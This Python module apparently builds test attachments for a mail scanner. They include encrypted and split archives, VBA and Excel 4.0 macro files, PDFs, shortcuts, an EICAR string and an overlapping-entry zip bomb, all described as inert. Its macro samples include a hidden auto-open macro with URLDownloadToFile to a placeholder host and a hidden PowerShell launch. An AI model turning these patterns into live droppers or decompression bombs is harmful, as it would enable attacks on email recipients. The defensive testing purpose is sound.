"""Readable parts from which the scenario mails are built.

Everything here is an inert look-alike: macros hold only the words that matter,
shortcuts point to notepad, scripts are comments. EICAR is put together from
two halves, so that no file of the tree holds it whole. Archives are made by
other people's tools (zip, 7zz, Python's zipfile and tarfile).
"""
import base64
import gzip
import io
import os
import shutil
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib

EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTI"
         "VIRUS-TEST-FILE!$H+H*").encode()
DATE = "Wed, 02 Mar 2022 10:47:00 +0900"
ZIP_DATE = (2022, 3, 2, 10, 0, 0)

# --- mail -------------------------------------------------------------------

def word2047(text, charset="iso-2022-jp"):
    """Encoded-words as Japanese mailers write them, folded."""
    if all(ord(c) < 128 for c in text):
        return text
    words = []
    for at in range(0, len(text), 12):
        piece = text[at:at + 12].encode(charset, "replace")
        words.append(f"=?{charset}?B?{base64.b64encode(piece).decode()}?=")
    return "\r\n ".join(words)


def base64_lines(data):
    text = base64.b64encode(data).decode()
    return "".join(text[i:i + 76] + "\r\n" for i in range(0, len(text), 76))


def text_part(text, charset="iso-2022-jp", subtype="plain"):
    body = text.replace("\n", "\r\n").encode(charset, "replace")
    if charset == "iso-2022-jp":
        return (f"Content-Type: text/{subtype}; charset={charset}\r\n"
                "Content-Transfer-Encoding: 7bit\r\n\r\n").encode() + body
    return (f"Content-Type: text/{subtype}; charset={charset}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n").encode() + \
        base64_lines(body).encode()


def html_part(text, charset="utf-8"):
    return text_part(text, charset, "html")


def file_part(name, data, kind="application/octet-stream"):
    shown = word2047(name).replace("\r\n ", "\r\n\t")
    return (f"Content-Type: {kind};\r\n\tname=\"{shown}\"\r\n"
            "Content-Transfer-Encoding: base64\r\n"
            f"Content-Disposition: attachment;\r\n\tfilename=\"{shown}\"\r\n"
            "\r\n").encode() + base64_lines(data).encode()


def mail_part(message):
    return b"Content-Type: message/rfc822\r\n\r\n" + message


def join(parts, kind="mixed", boundary="----=_Part_0001"):
    out = (f"Content-Type: multipart/{kind};\r\n\tboundary=\"{boundary}\"\r\n"
           "\r\n").encode()
    for part in parts:
        out += f"--{boundary}\r\n".encode() + part + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


def mail(body, sender="鈴木 一郎 <suzuki@partner.example>",
         to="山田 太郎 <yamada@aratame.example>", subject="打ち合わせの件",
         date=DATE, message_id="<20220302104700.1234@partner.example>",
         extra=""):
    """A whole message; `body` is a part or the outcome of join()."""
    def shown(address):
        name, angle, rest = address.rpartition("<")
        return word2047(name.strip()) + " " + angle + rest if name else address
    head = (f"From: {shown(sender)}\r\nTo: {shown(to)}\r\n"
            f"Subject: {word2047(subject)}\r\nDate: {date}\r\n")
    if message_id:
        head += f"Message-ID: {message_id}\r\n"
    head += extra.replace("\r\n", "\n").replace("\n", "\r\n")
    return head.encode("utf-8") + b"MIME-Version: 1.0\r\n" + body

def seen(message, **envelope):
    """A mail of a before.py; what is named of its envelope is other than
    usual: date, sender, recipient (one, or a list), direction."""
    return message, envelope

# --- archives -----------------------------------------------------------------

def run(*command, cwd=None):
    subprocess.run(command, cwd=cwd, check=True, stdout=subprocess.DEVNULL)


def with_files(files, make):
    """Writes the files into a folder, lets `make(folder)` build from them."""
    folder = tempfile.mkdtemp(prefix="aratame-parts-")
    try:
        for name, data in files.items():
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
        make(folder)
        with open(os.path.join(folder, "out"), "rb") as f:
            return f.read()
    finally:
        shutil.rmtree(folder)


def plain_zip(files, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = method
            z.writestr(info, data)
    return out.getvalue()


def sealed_zip(files, password, method="ZipCrypto"):
    """By 7zz: method ZipCrypto, AES128, AES192 or AES256."""
    def make(folder):
        run("7zz", "a", "-tzip", f"-mem={method}", f"-p{password}", "-mcu=on",
            "out.zip", *files, cwd=folder)
        os.rename(f"{folder}/out.zip", f"{folder}/out")
    return with_files(files, make)


CRC_TABLE = [0] * 256
for _n in range(256):
    _c = _n
    for _ in range(8):
        _c = _c >> 1 ^ (0xEDB88320 if _c & 1 else 0)
    CRC_TABLE[_n] = _c


def zipcrypto_checks(data, password):
    """Does a password pass the one check byte of the first member?"""
    def crc(old, byte):
        return old >> 8 ^ CRC_TABLE[(old ^ byte) & 255]
    k0, k1, k2 = 0x12345678, 0x23456789, 0x34567890

    def update(byte):
        nonlocal k0, k1, k2
        k0 = crc(k0, byte)
        k1 = ((k1 + (k0 & 255)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = crc(k2, k1 >> 24)
    for byte in password.encode():
        update(byte)
    flags, = struct.unpack("<H", data[6:8])
    time_, = struct.unpack("<H", data[10:12])
    crc32, = struct.unpack("<I", data[14:18])
    name, extra = struct.unpack("<HH", data[26:30])
    head = data[30 + name + extra:][:12]
    for byte in head:
        last = byte ^ ((k2 | 2) * ((k2 | 2) ^ 1) >> 8 & 255)
        update(last)
    return last == (time_ >> 8 if flags & 8 else crc32 >> 24)


def infozip_sealed(files, password):
    """By Info-ZIP: ZipCrypto with names as the system writes them."""
    def make(folder):
        run("zip", "-q", "-P", password, "out.zip", *files, cwd=folder)
        os.rename(f"{folder}/out.zip", f"{folder}/out")
    return with_files(files, make)


def sealed_7z(files, password, *options):
    """By 7zz; -mhe=on seals the names as well."""
    def make(folder):
        run("7zz", "a", "-t7z", f"-p{password}", *options, "out.7z", *files,
            cwd=folder)
        os.rename(f"{folder}/out.7z", f"{folder}/out")
    return with_files(files, make)


def cut(files, make):
    """The pieces that `make(folder)' leaves there as p.*, in order."""
    folder = tempfile.mkdtemp(prefix="aratame-parts-")
    try:
        for name, data in files.items():
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
        make(folder)
        pieces = []
        for name in sorted(os.listdir(folder)):
            if name.startswith("p."):
                with open(os.path.join(folder, name), "rb") as f:
                    pieces.append(f.read())
        return pieces
    finally:
        shutil.rmtree(folder)


def cut_7z(files, size, *options):
    return cut(files, lambda folder: run(
        "7zz", "a", f"-v{size}", *options, "p.7z", *files, cwd=folder))


def cut_zip(files, size):
    """By Info-ZIP: p.z01 …, p.zip."""
    return cut(files, lambda folder: run(
        "zip", "-q", "-s", size, "p.zip", *files, cwd=folder))


class Cp932Info(zipfile.ZipInfo):
    """A member whose name is written as Windows in Japan writes it."""
    def _encodeFilenameFlags(self):
        return self.filename.encode("cp932"), self.flag_bits & ~0x800


def cp932_zip(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in files.items():
            z.writestr(Cp932Info(name, ZIP_DATE), data)
    return out.getvalue()


def tar_gz(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def gz(data):
    return gzip.compress(data, mtime=0)


def overlapping_zip(entries=200, kernel=1 << 20):
    """One compressed kernel that every entry of the directory points to."""
    packed = plain_zip({"k": b"\0" * kernel})
    end = packed.rindex(b"PK\5\6")
    at = struct.unpack("<I", packed[end + 16:end + 20])[0]
    entry = packed[at:end]
    directory = b"".join(entry[:28] + struct.pack("<H", 4) + entry[30:46] +
                         b"k%03d" % i for i in range(entries))
    return packed[:at] + directory + struct.pack(
        "<4sHHHHIIH", b"PK\5\6", 0, 0, entries, entries, len(directory), at, 0)

# --- OLE (MS-CFB) and VBA (MS-OVBA) --------------------------------------------

def ovba_compress(data):
    """MS-OVBA 2.4.1 with literals only: valid, merely not small."""
    out = b"\x01"
    for at in range(0, len(data), 3640):
        chunk = data[at:at + 3640]
        tokens = b"".join(b"\0" + chunk[i:i + 8]
                          for i in range(0, len(chunk), 8))
        out += struct.pack("<H", 0xB000 | (len(tokens) + 2 - 3)) + tokens
    return out


def vba_dir(modules):
    def record(number, data):
        return struct.pack("<HI", number, len(data)) + data
    out = record(0x01, struct.pack("<I", 1))
    out += record(0x02, struct.pack("<I", 0x409))
    out += record(0x14, struct.pack("<I", 0x409))
    out += record(0x03, struct.pack("<H", 1252))
    out += record(0x04, b"VBAProject")
    out += record(0x05, b"") + record(0x40, b"")
    out += record(0x06, b"") + record(0x3D, b"")
    out += record(0x07, struct.pack("<I", 0))
    out += record(0x08, struct.pack("<I", 0))
    out += struct.pack("<HIIH", 0x09, 4, 1, 1)
    out += record(0x0C, b"") + record(0x3C, b"")
    out += record(0x0F, struct.pack("<H", len(modules)))
    out += record(0x13, struct.pack("<H", 0xFFFF))
    for name in modules:
        raw, wide = name.encode("ascii"), name.encode("utf-16-le")
        out += record(0x19, raw) + record(0x47, wide)
        out += record(0x1A, raw) + record(0x32, wide)
        out += record(0x1C, b"") + record(0x48, b"")
        out += record(0x31, struct.pack("<I", 0))
        out += record(0x1E, struct.pack("<I", 0))
        out += record(0x2C, struct.pack("<H", 0xFFFF))
        out += record(0x21, b"") + struct.pack("<HI", 0x2B, 0)
    return out + struct.pack("<HI", 0x10, 0)


def cfb(tree):
    """A compound file from {"name": bytes or {…}}; all streams in full
    sectors (every stream is padded to 4,096 bytes, so no mini stream)."""
    entries, data = [], bytearray()
    fat = []

    def store(content):
        if not content:
            return 0xFFFFFFFE
        start = len(fat)
        count = (len(content) + 511) // 512
        fat.extend(range(start + 1, start + count))
        fat.append(0xFFFFFFFE)
        data.extend(content.ljust(count * 512, b"\0"))
        return start

    def add(name, kind, content=b"", size=0):
        entries.append([name, kind, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF,
                        store(content) if kind == 2 else 0xFFFFFFFE, size])
        return len(entries) - 1

    def fill(parent, folder):
        made = []
        for name, value in folder.items():
            if isinstance(value, dict):
                made.append(add(name, 1))
                fill(made[-1], value)
            else:
                content = value.ljust(4096, b"\0") if len(value) < 4096 \
                    else value
                made.append(add(name, 2, content, len(content)))
        # A degenerate tree (a chain to the right) must be in order of length
        # and then of upper-case name.
        made.sort(key=lambda i: (len(entries[i][0]), entries[i][0].upper()))
        for a, b in zip(made, made[1:]):
            entries[a][3] = b
        if made:
            entries[parent][4] = made[0]

    root = add("Root Entry", 5)
    entries[root][5] = 0xFFFFFFFE
    fill(root, tree)
    directory = b""
    for name, kind, left, right, child, start, size in entries:
        wide = name.encode("utf-16-le")
        directory += wide.ljust(64, b"\0") + struct.pack(
            "<HBBIII16sIQQIQ", len(wide) + 2, kind, 1, left, right, child,
            b"", 0, 0, 0, start, size)
    while len(directory) % 512:
        directory += b"\0" * 66 + struct.pack("<BB", 0, 0) + \
            b"\xff" * 12 + b"\0" * 48
    directory_at = store(directory)
    fat_sectors = 1
    while (len(fat) + fat_sectors) * 4 > fat_sectors * 512:
        fat_sectors += 1
    fat_at = len(fat)
    fat.extend([0xFFFFFFFD] * fat_sectors)
    table = b"".join(struct.pack("<I", n) for n in fat)
    table = table.ljust(fat_sectors * 512, b"\xff")
    difat = [fat_at + i for i in range(fat_sectors)]
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"",
        0x3E, 3, 0xFFFE, 9, 6, b"", 0, fat_sectors, directory_at, 0, 4096,
        0xFFFFFFFE, 0, 0xFFFFFFFE, 0, difat[0])
    header += b"".join(struct.pack("<I", n) for n in difat[1:])
    return header.ljust(512, b"\xff") + bytes(data) + table


def vba_project(source, module="ThisWorkbook"):
    return {"VBA": {"dir": ovba_compress(vba_dir([module])),
                    module: ovba_compress(source.encode("cp932")),
                    "_VBA_PROJECT": b"\xcc\x61\xff\xff\0\0\0"},
            "PROJECT": f"Document={module}/&H00000000\r\n".encode()}


# Only the words that matter; none of it would run.
MACRO_ACTS = '''Sub Workbook_Open()
 ' TEST-INERT
 x = "CreateObject(WScript.Shell)"
 Set y = CreateObject("TEST.Inert")
 MsgBox "test"
End Sub
'''
MACRO_FORM = '''Private Sub Workbook_Open()
 Worksheets(1).Range("A1").Value = Date
 MsgBox "monthly form"
End Sub
'''
MACRO_DROPS = '''Sub AutoOpen()
 ' TEST-INERT
 Set h = CreateObject("MSXML2.XMLHTTP")
 URLDownloadToFile 0, "http://test.invalid/x", "x", 0, 0
 Shell "powershell -w hidden TEST-INERT", vbHide
End Sub
'''


def biff(*records):
    """A Workbook stream: BOF, the records, EOF."""
    bof = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0x0DBB, 0x07CC, 0, 6)
    return bof + b"".join(struct.pack("<HH", n, len(d)) + d
                          for n, d in records) + struct.pack("<HH", 0x0A, 0)


def sheet(name, hidden=0, kind=0):
    return 0x85, struct.pack("<IBBBB", 0x200, hidden, kind, len(name), 0) + \
        name.encode("ascii")


def macro_xls(source=MACRO_ACTS):
    return cfb({"Workbook": biff(sheet("Sheet1")),
                "_VBA_PROJECT_CUR": vba_project(source)})


def macro_doc(source=MACRO_DROPS):
    return cfb({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 600,
                "1Table": b"\0" * 100,
                "Macros": vba_project(source, "ThisDocument")})


def xlm_workbook(hidden=2):
    """A very hidden Excel 4.0 macro sheet with Auto_Open, and EXEC in words."""
    auto_open = struct.pack("<HBBHHH4s", 0x0020, 0, 1, 0, 0, 1,
                            b"\0\0\0\0") + b"\0" + b"\x01"
    words = 0xFC, b"\x01\0\0\0\x01\0\0\0" + b"\x18\0\0=EXEC(\"TEST-INERT\") Auto_Open"
    return biff(sheet("Sheet1"), sheet("Macro1", hidden, 1),
                (0x18, auto_open), words)


def xlm_xls(hidden=2):
    return cfb({"Workbook": xlm_workbook(hidden)})


def ooxml(kind, macro=None, extra=None):
    """A minimal docx or xlsx; with a macro it is docm or xlsm."""
    main = {"word": "word/document.xml", "xl": "xl/workbook.xml"}[kind]
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
             '.org/package/2006/content-types"><Default Extension="xml" '
             'ContentType="application/xml"/></Types>')
    body = "<?xml version=\"1.0\"?><document><p>ご確認ください。</p></document>"
    files = {"[Content_Types].xml": types.encode(),
             "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
             main: body.encode()}
    if macro:
        files[f"{kind}/vbaProject.bin"] = cfb(vba_project(macro))
    files.update(extra or {})
    return plain_zip(files)

# --- PDF -----------------------------------------------------------------------

def pdf_stream(data, more="", flate=True):
    """The value of an object that is a stream."""
    if flate:
        data, more = zlib.compress(data, 9), more + "/Filter/FlateDecode"
    return (f"<<{more}/Length {len(data)}>>stream\n".encode() + data +
            b"\nendstream")


def pdf(catalog="", *objects, page=""):
    """A page, and what is added to it; `objects` are numbered from 4."""
    values = [f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
              "<</Type/Pages/Kids[3 0 R]/Count 1>>",
              f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]{page}>>",
              *objects]
    out, places = bytearray(b"%PDF-1.7\n%\xe5\xe4\xe3\xe2\n"), []
    for number, value in enumerate(values, 1):
        places.append(len(out))
        value = value if isinstance(value, bytes) else value.encode("latin-1")
        out += f"{number} 0 obj\n".encode() + value + b"\nendobj\n"
    table = "".join(f"{at:010} 00000 n \n" for at in places)
    return bytes(out) + (f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}"
                  f"trailer\n<</Size {len(places) + 1}/Root 1 0 R>>\n"
                  f"startxref\n{len(out)}\n%%EOF\n").encode()


def pdf_with_file(name, data):
    """A PDF that carries a file."""
    return pdf("/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>",
               f"<</Type/Filespec/F({name})/EF<</F 5 0 R>>>>",
               pdf_stream(data, "/Type/EmbeddedFile"))


def sealed_pdf(data, password, *how):
    """By qpdf: `how` is 128 --use-aes=y, or 256."""
    def make(folder):
        run("qpdf", "--static-id", "--allow-weak-crypto",
            "--object-streams=generate", "--encrypt", password,
            "owner-" + password, *how, "--", "in.pdf", "out", cwd=folder)
    return with_files({"in.pdf": data}, make)

# --- other look-alikes -----------------------------------------------------------

LNK = struct.pack("<I16sI", 0x4C, bytes.fromhex(
    "0114020000000000c000000000000046"), 0x21).ljust(76, b"\0") + \
    "notepad.exe TEST-INERT".encode("utf-16-le")
JS = b"// TEST-INERT\r\nvar test = 'inert';\r\n"
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type"
       b"/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
EXE = (b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" +
       b"TEST-INERT").ljust(512, b"\0")
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQV"
                       "R42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")


def onenote(inner):
    guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    return bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\0" * 1008 + \
        guid + struct.pack("<QI8s", len(inner), 0, b"") + inner + b"\0" * 64


def iso(files, *options):
    """By genisoimage; without options with Joliet names, as Windows shows."""
    def make(folder):
        os.mkdir(f"{folder}/tree")
        for name in files:
            os.rename(f"{folder}/{name}", f"{folder}/tree/{name}")
        run("genisoimage", "-quiet", *(options or ["-J"]), "-o", "out", "tree",
            cwd=folder)
    return with_files(files, make)
